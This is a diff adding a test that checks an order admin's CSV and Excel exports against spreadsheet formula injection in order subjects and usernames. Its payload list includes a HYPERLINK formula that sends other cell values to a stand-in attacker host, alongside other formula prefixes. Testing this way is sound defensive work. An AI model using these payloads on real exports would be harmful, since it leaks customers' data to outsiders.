@@ -216,3 +216,42 @@ def test_staff_who_may_only_view_orders_cannot_cancel_them(make_order):
     assert "cancel_unpaid_action" not in page.text
     order.refresh_from_db()
     assert order.order_status == Order.Status.UNPAID
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&D2&D3,"查看")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_no_exported_text_runs_as_a_formula_in_csv_or_excel(staff_client):
+    """Orders placed before the subject became the course names may hold a buyer's formula."""
+    user = UserFactory(username="@cmd", mobile="13800000077")
+    orders = [
+        order_with_lines("1.00", out_trade_no=f"F-{i}", subject=text, user=user)
+        for i, text in enumerate(FORMULAS)
+    ]
+
+    csv_text = b"".join(
+        staff_client.get(f"{CHANGELIST}export.csv", {"q": "F-"}).streaming_content
+    ).decode("utf-8-sig")
+    sheet = load_workbook(
+        io.BytesIO(staff_client.get(f"{CHANGELIST}export.xlsx", {"q": "F-"}).content)
+    ).active
+
+    csv_rows = {r[0]: r for r in csv.reader(io.StringIO(csv_text, newline=""))}
+    for order in orders:
+        assert csv_rows[order.out_trade_no][4] == "'" + order.subject
+        assert csv_rows[order.out_trade_no][2] == "'@cmd"
+    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    for order in orders:
+        subject = cells[order.out_trade_no][4]
+        # Text, kept (XML reads a stored CR back as LF).
+        assert subject.data_type == "s" and subject.value == order.subject.replace("\r", "\n")
+        assert cells[order.out_trade_no][2].data_type == "s"
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert isinstance(cells["F-0"][5].value, float | int)  # money is still a number
